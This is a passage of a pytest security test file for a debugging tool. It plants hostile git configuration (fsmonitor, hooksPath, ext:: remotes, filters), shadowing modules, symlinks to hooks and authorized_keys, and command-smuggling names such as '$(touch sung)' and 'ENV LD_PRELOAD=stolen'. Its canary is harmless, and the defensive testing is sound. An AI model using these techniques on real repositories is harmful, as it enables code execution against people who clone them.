"""A stranger's repository: cloned, or unpacked from an archive with a `.git` of the attacker's making."""

import base64
import contextlib
import hashlib
import io
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path, PurePosixPath
from unittest import mock

import pytest
import tomlkit

from dkdbg import main
from dkdbg.errors import EXIT_USAGE, DkdbgError
from dkdbg.proof import program_end
from dkdbg.proof.finding import Finding
from dkdbg.repository import git
from dkdbg.repository.artefacts import artefact
from dkdbg.repository.transaction import Change, Transaction
from dkdbg.setup.render.manifest import debug_service
from dkdbg.sync.pull import destination
from dkdbg.sync.roots import Roots
from dkdbg.targets.openpai import target
from dkdbg.verbs.parts import proof_repair
from tests.agent.dap_probe import wait_for
from tests.attacks.fuzz import FULL
from tests.attacks.start_script import started_by
from tests.checkout import checkout, snapshot
from tests.checkout import git as git_in
from tests.engine.projects import command, dkdbg, take_away, unique
from tests.ports import free_port
from tests.processes import running_in
from tests.typed import typed as typed_line

SOURCES = Path(main.__file__).parent


def dkdbg_in(folder: Path, *words: str, **environ: str) -> subprocess.CompletedProcess[str]:
    """`dkdbg WORDS` as its user types it, in `folder`: in this process, which has imported it already; it shows no traceback."""
    out, err, before = io.StringIO(), io.StringIO(), Path.cwd()
    os.chdir(folder)
    try:
        with mock.patch.dict(os.environ, environ), redirect_stdout(out), redirect_stderr(err):
            code = main.main(list(words))
    finally:
        os.chdir(before)
    assert "Traceback" not in err.getvalue()
    return subprocess.CompletedProcess(words, code, out.getvalue(), err.getvalue())


#: `dkdbg` that waits 3 s instead of 30 for an answer of git.
HURRIED = "import sys; from dkdbg import main; from dkdbg.repository import git; git._TIMEOUT_S = 3.0; sys.exit(main.main())"


class Canary:
    """A program of the attacker's: it has run when its file exists."""

    def __init__(self, folder: Path) -> None:
        self.sung = folder / "sung"
        self.program = folder / "canary.sh"
        self.program.write_text(f'#!/bin/sh\necho "$0 $*" >>{self.sung}\nexit 1\n')
        self.program.chmod(0o755)

    @property
    def songs(self) -> str:
        return self.sung.read_text() if self.sung.exists() else ""


@pytest.fixture
def canary(tmp_path):
    (tmp_path / "attacker").mkdir()
    return Canary(tmp_path / "attacker")


@pytest.fixture
def repo(tmp_path):
    """A repository with one tracked file that its own rules ignore, so that git has something to say."""
    root = tmp_path / "repo"
    root.mkdir()
    git_in(root, "init", "-q")
    (root / ".gitignore").write_text("*.bin\n")
    (root / "weights.bin").write_text("1\n")
    (root / "train.py").write_text("print(1)\n")
    git_in(root, "add", "--force", ".")
    git_in(root, "commit", "-qm", "first")
    return root


def _fsmonitor(root: Path, canary: Canary) -> None:
    git_in(root, "config", "core.fsmonitor", str(canary.program))


def _included(root: Path, canary: Canary) -> None:
    (root / "settings.txt").write_text(f"[core]\n\tfsmonitor = {canary.program}\n")
    git_in(root, "config", "include.path", "../settings.txt")


def _hooks(root: Path, canary: Canary) -> None:
    hooks = root / "hooks"
    hooks.mkdir()
    for name in ("post-index-change", "fsmonitor-watchman", "reference-transaction", "post-checkout"):
        (hooks / name).symlink_to(canary.program)
    git_in(root, "config", "core.hooksPath", str(hooks))
    os.utime(root / "train.py", (1, 1))


def _fetching(root: Path, canary: Canary) -> None:
    """A sparse index, the folder of which is missing."""
    (root / "deep").mkdir()
    (root / "deep/a.bin").write_text("1")
    git_in(root, "add", "--force", ".")
    git_in(root, "commit", "-qm", "second")
    git_in(root, "sparse-checkout", "set", "--cone", "--sparse-index", "shallow")
    tree = git_in(root, "rev-parse", "HEAD:deep").strip()
    (root / ".git/objects" / tree[:2] / tree[2:]).unlink()
    _promises(root, canary)


def _promises(root: Path, canary: Canary) -> None:
    """Whatever is missing has to be fetched, by a program that the remote names."""
    for key, value in {
        "extensions.partialClone": "origin", "remote.origin.promisor": "true", "core.repositoryFormatVersion": "1",
        "remote.origin.url": f"ext::{canary.program} %S", "protocol.ext.allow": "always", "protocol.file.allow": "always",
        "remote.origin.uploadpack": str(canary.program), "core.sshCommand": str(canary.program),
    }.items():  # fmt: skip
        git_in(root, "config", key, value)


def _everything_else(root: Path, canary: Canary) -> None:
    (root / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    for key in (
        "core.pager", "pager.ls-files", "diff.external", "diff.evil.textconv", "diff.evil.command", "core.editor",
        "core.askPass", "core.gitProxy", "credential.helper", "gpg.program", "core.alternateRefsCommand",
        "filter.evil.clean", "filter.evil.smudge", "filter.evil.process", "merge.evil.driver", "core.sshCommand",
    ):  # fmt: skip
        git_in(root, "config", key, str(canary.program))
    git_in(root, "config", "alias.ls-files", f"!{canary.program}")
    git_in(root, "config", "submodule.recurse", "true")
    os.utime(root / "train.py", (1, 1))


@pytest.mark.attack(6)
@pytest.mark.parametrize("hide", [_fsmonitor, _included, _hooks, _fetching, _everything_else])
def test_a_repositorys_git_configuration_runs_nothing(repo, canary, hide):
    """Names his program in the .git/config of an archive, by every key that git runs: sync asks git, and none is run."""
    hide(repo, canary)
    done = dkdbg_in(repo, "sync", "--explain", "weights.bin")
    assert canary.songs == ""
    assert done.returncode == 0, done.stderr
    if hide is not _fetching:
        assert "git tracks it" in done.stdout  # and git did answer


@pytest.mark.attack(6)
def test_a_bare_repository_in_a_subfolder_is_not_asked(tmp_path, canary, repo):
    """Hides a bare repository, configuration and all, in a subfolder of what is cloned: git is not started in it."""
    evil = repo / "data/set"
    evil.mkdir(parents=True)
    git_in(evil, "init", "-q", "--bare", "-b", "main", ".")
    (evil / "objects/keep").write_text("")
    (evil / "refs/keep").write_text("")
    (evil / "config").write_text(
        f'[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "."\n\tfsmonitor = {canary.program}\n'
    )
    (evil / "index").write_bytes((repo / ".git/index").read_bytes())
    (evil / ".gitignore").write_text("*.bin\n")
    git_in(repo, "add", "--force", "data")
    git_in(repo, "commit", "-qm", "data")
    clone = tmp_path / "clone"
    git_in(tmp_path, "clone", "-q", str(repo), str(clone))
    below = clone / "data/set"
    assert (below / "HEAD").is_file()
    done = dkdbg_in(below, "sync", "--explain", "x.bin")
    assert canary.songs == ""
    assert done.returncode == 0, done.stderr


@pytest.mark.attack(6)
def test_another_repository_in_the_environment_is_not_asked(repo, canary, tmp_path):
    """Gets his repository into GIT_DIR, as a hook of his would: git is asked about the folder at hand."""
    evil = tmp_path / "evil"
    evil.mkdir()
    git_in(evil, "init", "-q")
    git_in(evil, "config", "core.fsmonitor", str(canary.program))
    program = str(canary.program)
    done = dkdbg_in(
        repo, "sync", "--explain", "weights.bin", GIT_DIR=str(evil / ".git"), GIT_EXTERNAL_DIFF=program,
        GIT_SSH_COMMAND=program, GIT_PAGER=program, GIT_ASKPASS=program, GIT_EDITOR=program,
    )  # fmt: skip
    assert canary.songs == ""
    assert "git tracks it" in done.stdout


@pytest.mark.attack(6)
@pytest.mark.engine
@pytest.mark.parametrize("way", ["dkdbg up", "F5"])
def test_a_build_does_not_ask_the_repositorys_git(tmp_path, canary, base_image, way):
    """Has docker build ask his git configuration where the image comes from: builds that we start do not ask git."""
    root = tmp_path / unique("hostile")
    root.mkdir()
    (root / "Dockerfile").write_text(
        f'FROM {base_image}\nWORKDIR /app\nCOPY . .\nCMD ["python3", "train.py"]\n'
    )
    (root / "compose.yaml").write_text("services:\n  app:\n    build: .\n")
    (root / "train.py").write_text("print(1)\n")
    (root / "dkdbg.toml").write_text(f"[debug]\nport = {free_port()}\nwait = 0\n")
    git_in(root, "init", "-q", "-b", "main")
    git_in(root, "add", ".")
    git_in(root, "commit", "-qm", "first")
    (root / ".git/refs/heads/main").write_text("1" * 40 + "\n")
    _promises(root, canary)
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    (root / "train.py").write_text("import time\ntime.sleep(600)\n")
    try:
        if way == "dkdbg up":
            done = dkdbg(root, "up", "--wait-timeout", "300")
        else:
            done = command(["sh", ".dkdbg/up.sh"], root, check=False)
        assert canary.songs == ""
        assert done.returncode == 0, done.stdout + done.stderr
    finally:
        take_away(root, {})


def test_the_users_own_configuration_of_git_counts(repo, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / "ignored").write_text("*.log\n")
    (home / ".gitconfig").write_text(
        f"[core]\n\texcludesFile = {home / 'ignored'}\n[safe]\n\tdirectory = *\n"
    )
    (repo / "run.log").write_text("1\n")
    git_in(repo, "add", "run.log")
    done = dkdbg_in(repo, "sync", "--explain", "run.log", HOME=str(home), GIT_TEST_ASSUME_DIFFERENT_OWNER="1")
    assert done.returncode == 0, done.stderr
    assert git.ask(repo, "ls-files", "--cached", "--ignored", "--exclude-standard") is not None


#: A list or tuple of Python whose first word is git, or a text that is a command line of it; not the check of that name.
STARTS_GIT = re.compile(r"""(?<!@warning)[\[(]\s*["'](?:/usr/bin/)?git["']\s*,|["']git -""")


@pytest.mark.attack(6)
def test_no_other_module_runs_git():
    """Waits for one git call that somebody added without care: only dkdbg/repository/git.py starts git, by one function."""
    places = [path for path in SOURCES.rglob("*.py") if "_artefacts" not in path.parts]
    runs = [path for path in places for _ in STARTS_GIT.findall(path.read_text("utf-8"))]
    assert [str(path.relative_to(SOURCES)) for path in runs] == ["repository/git.py"]
    for folder in ("templates", "compose", "devcontainer"):
        for path in (SOURCES.parents[1] / folder).rglob("*"):
            if path.is_file():
                lines = path.read_text("utf-8").splitlines()
                assert not [line for line in lines if re.search(r"(?:^|[;&|(])\s*git\s", line)], path


SHADOW = "import os\nopen(os.environ['SUNG'], 'a').write(__file__)\n"
#: What a program of ours might import from the folder that it is started in.
SHADOWS = (
    "pip.py", "dkdbg/__init__.py", "sitecustomize.py", "usercustomize.py", "json.py", "re.py", "debugpy.py", "jinja2.py",
)  # fmt: skip
#: What a user types: unlike `python -m dkdbg`, it does not put the working folder into sys.path.
PROGRAM = str(Path(sys.executable).with_name("dkdbg"))


def typed(folder: Path, *words: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return command([PROGRAM, *words], folder, env=env, check=False)


def _shadowed(root: Path) -> Path:
    for name in SHADOWS:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(SHADOW)
    for name in (".venv/bin/python", "venv/bin/python", "docker", "git", "sh", "python3"):
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text('#!/bin/sh\necho "$0" >>"$SUNG"\n')
        path.chmod(0o755)
    return root


@pytest.mark.attack(0)
def test_init_imports_nothing_of_the_repository(tmp_path, canary):
    """Brings a pip.py and asks for an old Python, whose debugpy comes by pip: init starts pip in a folder of its own."""
    root = _shadowed(tmp_path / "repo")
    (root / "train.py").write_text("print(1)\n")
    (root / ".python-version").write_text("3.8\n")
    git_in(root, "init", "-q")
    pip = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(tmp_path)}
    environ = {"SUNG": str(canary.sung), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    done = typed(root, "init", "--diff", env=environ | pip)
    assert canary.songs == ""
    assert "cannot fetch debugpy" in done.stderr  # pip itself was asked


@pytest.mark.attack(0)
def test_pdb_and_restart_import_nothing_of_the_repository(tmp_path, canary):
    """Brings a package called dkdbg: a verb that runs the agent on this machine runs ours."""
    root = _shadowed(tmp_path / "repo")
    environ = {"SUNG": str(canary.sung), "TMPDIR": str(tmp_path), "DKDBG_NAME": "shadowed"}
    line = f"{PROGRAM} run --port {free_port()} -- {sys.executable} -I -c 'import time; time.sleep(600)'"
    with typed_line(tmp_path, line, tmp_path / "said", environ) as running:
        running.wait("can attach")
        for words in (["ps"], ["pdb", "local:"], ["restart", "local:"]):
            typed(root, *words, env=environ)
            assert canary.songs == "", words


@pytest.mark.attack(0)
def test_a_program_is_not_taken_from_the_working_folder(repo, canary):
    """Calls a program `git` or `docker`, for users whose PATH has an empty entry: no program is looked for there."""
    _shadowed(repo)
    environ = {"SUNG": str(canary.sung), "PATH": f":.:{os.environ['PATH']}"}
    for words in (("sync", "--explain", "weights.bin"), ("ps",), ("down",)):
        typed(repo, *words, env=environ)
    assert canary.songs == ""


@pytest.mark.attack(0)
@pytest.mark.parametrize("words", [("doctor",), ("doctor", "--fix"), ("doctor", "local:")], ids=" ".join)
def test_doctor_runs_nothing_of_the_repository(repo, canary, words):
    """Brings a re.py, a package called dkdbg and programs, for a PATH with an empty entry: doctor runs none of them."""
    _shadowed(repo)
    (repo / ".dkdbg").mkdir(exist_ok=True)
    with zipfile.ZipFile(repo / ".dkdbg" / "agent.pyz", "w") as agent:  # so that there is something to fix
        agent.writestr("dkdbg/__init__.py", '__version__ = "0.0.1"\n')
    done = typed(repo, *words, env={"SUNG": str(canary.sung), "PATH": f":.:{os.environ['PATH']}"})
    assert ("$ dkdbg init" in done.stdout) == ("--fix" in words)
    assert canary.songs == ""


@pytest.mark.attack(0)
def test_a_proof_starts_our_dkdbg(tmp_path, canary):
    """Brings a package called dkdbg: `dkdbg verify --on` starts ours, in the repository's folder."""
    root = _shadowed(tmp_path / "repo")
    environ = {"SUNG": str(canary.sung), "TMPDIR": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    program = (sys.executable, "-I", "-c", "1")
    typed(root, "verify", "--on", "local:", "--timeout", "20", "--", *program, env=environ)
    assert canary.songs == ""


HOOK = b"#!/bin/sh\necho hooked\n"


def _journal(path: str, directories: tuple[str, ...] = ()) -> str:
    """A journal that has `path` restored to a hook, whatever is there now."""
    entry = {
        "before": base64.b64encode(HOOK).decode(), "mode": 0o4755, "mtime_ns": 1, "edited": False,
        "written": [None],
    }  # fmt: skip
    return json.dumps({"version": 1, "files": {path: entry}, "directories": list(directories)})


def _state(folder: Path) -> dict[str, tuple[int, bytes]]:
    """All files of `folder` and what lies beside it: path -> mode and bytes, links as links."""
    found = {}
    for path in sorted(folder.rglob("*")):
        status = path.lstat()
        if path.is_symlink():
            found[str(path)] = (0, os.fsencode(path.readlink()))
        elif path.is_file():
            found[str(path)] = (status.st_mode, path.read_bytes())
    return found


HOSTILE_PATHS = (
    ".git/hooks/post-checkout", ".GIT/hooks/post-checkout", "sub/.git/hooks/x", "../outside", "a/../../outside",
    "{outside}", "link/post-checkout", "hook", ".g\u200cit/hooks/post-checkout",
)  # fmt: skip


@pytest.mark.attack(7)
@pytest.mark.parametrize(
    ("way", "path"),
    [
        ("tracked", HOSTILE_PATHS[0]),
        ("unpacked", HOSTILE_PATHS[1]),
        *(("in .git", path) for path in HOSTILE_PATHS),
    ],
)
def test_a_journal_of_somebody_else_writes_no_hook(repo, tmp_path, path, way):
    """Brings an undo journal that restores an executable hook: undo knows no such file, tracked journals not at all."""
    (repo / "link").symlink_to(".git/hooks")
    (repo / "hook").symlink_to(".git/hooks/post-checkout")
    (repo / "sub").mkdir()
    (repo / ".git/hooks").mkdir(exist_ok=True)
    text = _journal(path.format(outside=tmp_path / "outside"), directories=("../empty", ".git/refs/tags"))
    (tmp_path / "empty").mkdir()
    own = repo / (".git/dkdbg/undo.json" if way == "in .git" else ".dkdbg/undo.json")
    own.parent.mkdir()
    own.write_text(text)
    if way == "tracked":
        git_in(repo, "add", "--force", ".dkdbg/undo.json")
    before = _state(tmp_path)
    done = dkdbg_in(repo, "init", "--undo", "--force")
    before.pop(str(repo / ".git/index"), None)
    after = _state(tmp_path)
    after.pop(str(repo / ".git/index"), None)
    assert after == before
    assert (tmp_path / "empty").is_dir()
    assert (repo / ".git/refs/tags").is_dir()
    assert done.returncode != 0
    assert ("nothing to undo" if way == "tracked" else "dkdbg: ") in done.stderr


@pytest.mark.attack(7)
@pytest.mark.parametrize(
    ("name", "leads"),
    [
        (".dkdbg/up.sh", "../.git/hooks/pre-commit"), (".dkdbg", ".git/hooks"), (".dkdbg", "src"), (".vscode", ".git/hooks"),
        (".vscode/launch.json", "../.git/config"), (".devcontainer", "../outside"), ("compose.yaml", ".git/config"),
        ("Dockerfile", "/dev/null"), (".env", ".git/config"), ("dkdbg.toml", "src/settings.toml"),
    ],
)  # fmt: skip
def test_init_writes_through_no_link(repo, tmp_path, name, leads):
    """Has a file of ours be a link to a git hook, or its folder: init refuses before it writes anything."""
    (repo / "src").mkdir()
    (repo / ".git/hooks").mkdir(exist_ok=True)
    (tmp_path / "outside").mkdir()
    (repo / name).parent.mkdir(exist_ok=True)
    (repo / name).symlink_to(leads)
    before = _state(tmp_path)
    done = dkdbg_in(repo, "init", "--yes")
    assert _state(tmp_path) == before
    assert done.returncode != 0
    assert "hint: " in done.stderr


@pytest.mark.attack(7)
def test_a_file_that_waits_where_init_writes_first_is_not_followed(repo):
    """Puts a link where init keeps its new version for a moment: it is removed, and what it names stays."""
    (repo / ".dkdbg").mkdir()
    for name in (".up.sh.dkdbg-new", ".up.sh.dkdbg-old", ".undo.json.dkdbg-new"):
        (repo / ".dkdbg" / name).symlink_to("../.git/hooks/pre-commit")
    assert dkdbg_in(repo, "init", "--yes").returncode == 0
    assert not (repo / ".git/hooks/pre-commit").exists()
    assert (repo / ".dkdbg/up.sh").is_file()


@pytest.mark.attack(7)
@pytest.mark.parametrize("where", [".dkdbg", ".vscode", ".devcontainer/dkdbg-owner"])
def test_a_folder_that_becomes_a_link_meanwhile_is_not_followed(repo, where):
    """Swaps a folder for a link between init's look and its write: nothing is written behind the link."""
    assert dkdbg_in(repo, "init", "--yes").returncode == 0
    path = PurePosixPath(where, "new.sh")
    waiting = Transaction(root=repo, changes=(Change(path=path, before=None, after=HOOK, mode=0o755),))
    (repo / where).rename(repo / "moved")
    (repo / where).symlink_to(repo / ".git/hooks")
    with pytest.raises(DkdbgError, match="symbolic link"):
        waiting.commit()
    assert not (repo / ".git/hooks/new.sh").exists()


@pytest.mark.attack(7)
@pytest.mark.parametrize("name", [".git/config", "half of a character: \ud800"])
def test_a_manifest_of_somebody_else_removes_nothing_of_gits(repo, name):
    """Lists git's files as generated ones, with their digests, so that init removes them: such a manifest is refused."""
    config = repo / ".git/config"
    (repo / ".dkdbg").mkdir()
    files = {name: hashlib.sha256(config.read_bytes()).hexdigest()}
    (repo / ".dkdbg/manifest.json").write_text(json.dumps({"version": 1, "files": files, "notes": {}}))
    done = dkdbg_in(repo, "init", "--yes")
    assert config.is_file()
    assert ".dkdbg/manifest.json cannot be read" in done.stderr
    assert not (repo / "compose.yaml").exists()


@pytest.mark.attack(7)
@pytest.mark.parametrize("kind", ["names a folder of the user's", "FIFO", "link", "a FIFO named config"])
def test_a_git_file_that_leads_elsewhere_gets_no_journal(tmp_path, kind):
    """Unpacks a `.git` that is a file, a link or a FIFO: the journal is not written where it leads, nothing hangs."""
    victim, root = tmp_path / "victim", tmp_path / "repo"
    victim.mkdir()
    git_in(victim, "init", "-q")
    root.mkdir()
    (root / "train.py").write_text("print(1)\n")
    if kind == "FIFO":
        os.mkfifo(root / ".git")
    elif kind == "link":
        (root / ".git").symlink_to(victim / ".git")
    elif kind == "a FIFO named config":
        (root / "fake").mkdir()
        os.mkfifo(root / "fake/config")
        (root / "fake/HEAD").write_text("ref: refs/heads/main\n")
        (root / ".git").write_text("gitdir: fake\n")
    else:
        (root / ".git").write_text(f"gitdir: {victim / '.git'}\n")
    before = _state(victim)
    done = dkdbg_in(root, "init", "--yes")
    assert done.returncode == 0, done.stderr
    assert _state(victim) == before
    assert dkdbg_in(root, "sync", "--explain", "train.py").returncode == 0
    assert dkdbg_in(root, "init", "--undo").returncode == 0
    assert _state(victim) == before


# -- sync ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def place(tmp_path):
    """A target on this machine, with something to pull; and around it a folder that is none of sync's business."""
    folder = tmp_path / "place"
    (folder / "out" / "run").mkdir(parents=True)
    (folder / "out" / "authorized_keys").write_text("evil")
    (folder / "out" / "run" / "authorized_keys").write_text("evil")
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "authorized_keys").write_text("mine")
    return folder


def _untouched(victim: Path) -> None:
    assert sorted(each.name for each in victim.iterdir()) == ["authorized_keys"]
    assert (victim / "authorized_keys").read_text() == "mine"


@pytest.mark.attack(13)
@pytest.mark.parametrize(
    "link", ["dkdbg-pulled", "dkdbg-pulled/local", "dkdbg-pulled/local/out", "dkdbg-pulled/local/out/run",
             "dkdbg-pulled/local/out/authorized_keys", "dkdbg-pulled/.gitignore"],
)  # fmt: skip
def test_pull_writes_through_no_symlink_of_the_repository(repo, place, link):
    """Brings a symlink to the user's own files where `sync --pull` writes: nothing is written through it, and it is named."""
    victim = place.parent / "victim"
    at = repo / link
    at.parent.mkdir(parents=True, exist_ok=True)
    leads = {"authorized_keys": victim / "authorized_keys", ".gitignore": victim / "new"}.get(at.name, victim)
    at.symlink_to(leads)
    done = dkdbg_in(repo, "sync", f"local:{place}", "--pull", "out")
    _untouched(victim)
    if at.name not in {"authorized_keys", ".gitignore"}:
        assert done.returncode == 1, done.stdout
        assert "symlink" in done.stdout + done.stderr
    if link.count("/") < 2 and at.name != ".gitignore":
        assert "--into DIR" in done.stderr
        kept = place.parent / "kept"
        assert dkdbg_in(repo, "sync", f"local:{place}", "--pull", "out", "--into", str(kept)).returncode == 0
        assert (kept / "out" / "run" / "authorized_keys").read_text() == "evil"


@pytest.mark.attack(13)
@pytest.mark.parametrize("below", ["", "/deeper/still", "/../victim"])
def test_pull_into_a_symlink_of_the_repository_says_where_it_leads(repo, place, below):
    """Brings a folder that is a symlink to outside, which the user names with `--into`: refused, with where it leads."""
    victim = place.parent / "victim"
    (repo / "results").symlink_to(victim)
    done = dkdbg_in(repo, "sync", f"local:{place}", "--pull", "out", "--into", "results" + below)
    _untouched(victim)
    assert done.returncode == 2
    assert f"by a symlink, to {victim}" in done.stderr


@pytest.mark.attack(13)
def test_pull_into_a_folder_that_becomes_a_symlink_meanwhile_writes_nothing_there(repo, place):
    """Swaps the folder of pulled files for a symlink to outside, over and over, while it is made: nothing is made outside."""
    victim = place.parent / "victim"
    roots = Roots(local=str(repo), remote=str(place))
    pulled = repo / "dkdbg-pulled"
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            shutil.rmtree(pulled, ignore_errors=True)
            with contextlib.suppress(OSError):
                pulled.symlink_to(victim)
            with contextlib.suppress(OSError):
                pulled.unlink()

    swapper = threading.Thread(target=swap)
    swapper.start()
    refused = made = 0
    try:
        while refused < 30 or made < 30:
            with contextlib.suppress(DkdbgError):
                refused += 1
                os.close(destination(str(repo), None, "local", roots).descriptor)
                refused, made = refused - 1, made + 1
    finally:
        stop.set()
        swapper.join()
    _untouched(victim)


def _socket(at: Path) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(at))


def _terabyte(at: Path) -> None:
    with at.open("wb") as file:
        file.truncate(10**12)


#: What may lie in the place of a file.
ODD_FILES: dict[str, Callable[[Path], None]] = {
    "FIFO": os.mkfifo,
    "folder": Path.mkdir,
    "socket": _socket,
    "terabyte": _terabyte,
    "zero": lambda at: at.symlink_to("/dev/zero"),
    "secret": lambda at: at.symlink_to("../secret"),
    "loop": lambda at: at.symlink_to(at.name),
}


@pytest.mark.attack(0)
@pytest.mark.parametrize(
    ("name", "what"),
    [(name, what)
     for name in ("train.py", ".gitignore", "pkg/.gitignore", ".dockerignore", "dkdbg.toml", ".git/info/exclude")
     for what in ("FIFO", "socket", "zero", "terabyte", "loop")
     if FULL or what == "FIFO" or name == "train.py" or (name, what) == (".gitignore", "zero")],
)  # fmt: skip
def test_a_file_that_is_none_or_has_no_end_is_not_waited_for(repo, place, name, what):
    """Brings a pipe, a socket, a device, a loop or a sparse terabyte in the place of a file that sync reads: it is left out,
    or named, and sync ends."""
    at = repo / name
    at.parent.mkdir(exist_ok=True)
    at.unlink(missing_ok=True)
    ODD_FILES[what](at)
    (repo / "other.py").write_text("x = 1\n")
    program = ["-c", HURRIED] if (name, what) == (".git/info/exclude", "FIFO") else ["-m", "dkdbg"]
    done = command([sys.executable, *program, "sync", f"local:{place}", "--once"], repo, check=False)
    assert "Traceback" not in done.stderr
    if done.returncode == 0:
        assert (place / "other.py").read_text() == "x = 1\n"
    else:
        assert done.stderr.count("dkdbg: ") == 1
        assert at.name in done.stderr
        assert not (place / "other.py").exists()
    assert not (place / name).exists()
    # git waits for ever on such a file; `Popen.wait` of who asked is not enough where that is a thread that nobody joins.
    # One that was killed goes when it is its turn.
    wait_for(lambda: running_in(repo, ""), lambda left: not left)


@pytest.mark.attack(0)
def test_folders_without_a_bottom_are_left_out(repo, place):
    """Brings two thousand folders in each other: what is deeper than 200 is left out and said; the rest arrives."""
    at = os.open(repo, os.O_RDONLY)
    for _ in range(2000):
        os.mkdir("d", dir_fd=at)
        below = os.open("d", os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = below
    os.close(at)
    (repo / "other.py").write_text("x = 1\n")
    done = dkdbg_in(repo, "sync", f"local:{place}", "--once")
    assert (done.returncode, done.stderr) == (0, "")
    assert "more than 200 folders deep" in done.stdout
    assert (place / "other.py").exists()
    subprocess.run(["rm", "-rf", str(repo / "d"), str(place / "d")], check=True)


NAMES = (
    "app; touch sung", "$(touch sung)", "`touch sung`", "app\ntouch sung", "--privileged", "a b", "${command:x}", "é", "",
    "'; touch sung; '",
)  # fmt: skip


@pytest.mark.attack(8)
@pytest.mark.parametrize("name", NAMES)
def test_a_service_name_that_is_none_is_refused(tmp_path, name):
    """Calls a service what a shell runs, for the script that F5 starts: init says what a name is, and writes nothing."""
    service = {"build": ".", "command": "python train.py"}
    files = {
        "compose.yaml": json.dumps({"services": {name: service}}), "train.py": "print(1)\n",
        "Dockerfile": "FROM python:3.11\nWORKDIR /app\nCOPY . .\n",
    }  # fmt: skip
    root = checkout(tmp_path / "repo", files)
    before = snapshot(root)
    done = dkdbg_in(root, "init", "--yes")
    assert "is not a valid service name" in done.stderr
    assert "hint: Rename it in compose.yaml" in done.stderr
    assert done.returncode != 0
    assert snapshot(root) == before


@pytest.mark.attack(8)
def test_a_service_name_of_somebody_elses_manifest_is_not_taken(tmp_path):
    """Writes the name into .dkdbg/manifest.json, where up and down take it from: they look at the repository instead."""
    root = checkout(tmp_path / "repo", {"train.py": "print(1)\n"})
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    manifest = root / ".dkdbg/manifest.json"
    content = json.loads(manifest.read_text())
    for name in NAMES:
        content["notes"][".dkdbg/service.compose"]["service"]["name"] = name
        manifest.write_text(json.dumps(content))
        done = dkdbg_in(root, "up", DOCKER_HOST="unix:///nowhere.sock")
        assert "engine" in done.stderr.lower() or "docker" in done.stderr.lower(), name
        assert debug_service(root) is None, name


@pytest.mark.attack(8)
def test_what_somebody_elses_manifest_says_of_a_base_image_is_a_plain_path_or_nothing(tmp_path):
    """Says in the manifest that the base image sets more than a folder and a user: no such line is taken."""
    files = {"app.py": "print(1)\n", "Dockerfile": "FROM mlbox:1\nWORKDIR sub\nCOPY . .\nCMD python app.py\n"}
    root = checkout(tmp_path / "repo", files)
    assert dkdbg_in(root, "init", "--yes").returncode == 0
    manifest = root / ".dkdbg/manifest.json"
    content = json.loads(manifest.read_text())
    lines = [
        "WORKDIR /a\nRUN touch stolen", "WORKDIR /${HOME}", "WORKDIR /a b", "WORKDIR /a\\", "WORKDIR /\u202estolen", "USER $(touch stolen)",
        "USER 0:0 stolen", "ENTRYPOINT stolen", 'ENTRYPOINT ["/a", "${HOME}"]', 'ENTRYPOINT ["/a"] stolen', 'ENTRYPOINT ["/a", "touch stolen"]', "ENV PYTHONPATH=/x LD_PRELOAD=stolen", "ENV LD_PRELOAD=/stolen", "RUN stolen", 5, None, {"a": 1},
    ]  # fmt: skip
    for said in (
        lines,
        *([each] for each in lines),
        "WORKDIR /stolen",
        {"WORKDIR /stolen": 1},
        5,
        ["USER a"] * 100_000,
    ):
        for known in ({"mlbox:1": said}, said):
            content["notes"][".dkdbg/service.compose"]["inherited"] = known
            manifest.write_text(json.dumps(content))
            done = dkdbg_in(root, "init", "--diff", DOCKER_HOST="unix:///nowhere.sock")
            assert (done.returncode, "Traceback" in done.stderr) == (0, False), (said, done.stderr)
            shown = [line for line in done.stdout.splitlines() if not line.startswith("-")]
            assert not [
                line for line in shown if "stolen" in line or "${HOME}" in line or len(line) > 5000
            ], said
    assert not list(tmp_path.rglob("stolen"))
    content["notes"][".dkdbg/service.compose"]["inherited"] = {"mlbox:1": ["WORKDIR /plain"]}
    manifest.write_text(json.dumps(content))
    assert "/plain/sub" in dkdbg_in(root, "init", "--diff", DOCKER_HOST="unix:///nowhere.sock").stdout


@pytest.mark.attack(8)
@pytest.mark.parametrize(
    "lines",
    [
        'CMD ["python", "a\\nport 1 on 0.0.0.0"]',
        'ENTRYPOINT ["python", "a\\nport 1 on 0.0.0.0"]',
        'SHELL ["/bin/sh", "a\\nport 1 on 0.0.0.0", "-c"]\nCMD python app.py',
    ],
)
def test_a_command_with_line_ends_looks_like_no_other_line_of_the_plan(tmp_path, lines):
    """Has a command show a line of its own choice in the plan that a user agrees to."""
    files = {"app.py": "print(1)\n", "Dockerfile": f"FROM python:3.11\nWORKDIR /app\nCOPY . .\n{lines}\n"}
    done = dkdbg_in(checkout(tmp_path / "repo", files), "init", "--yes")
    assert done.returncode == 0
    assert "a\\nport 1" in done.stdout
    assert not re.search(r"^\W*port 1 on", done.stdout, re.MULTILINE)


@pytest.mark.attack(0)
@pytest.mark.parametrize("git", [True, False])
def test_the_name_of_a_link_is_installed_from_no_index(tmp_path, git):
    """Registers the names of a repository's own packages on the index, where the repository has links instead of them."""
    for name in ("out/away", "repo/real"):
        (tmp_path / name).mkdir(parents=True)
        (tmp_path / name / "__init__.py").touch()
    (tmp_path / "out/single.py").touch()
    root = checkout(
        tmp_path / "repo",
        {"app.py": "import alias, away, single, gone, loop, tqdm, datasets, requests\nprint(1)\n"},
    )
    for name, leads in {
        "alias": "real",
        "away": "../out/away",
        "single.py": "../out/single.py",
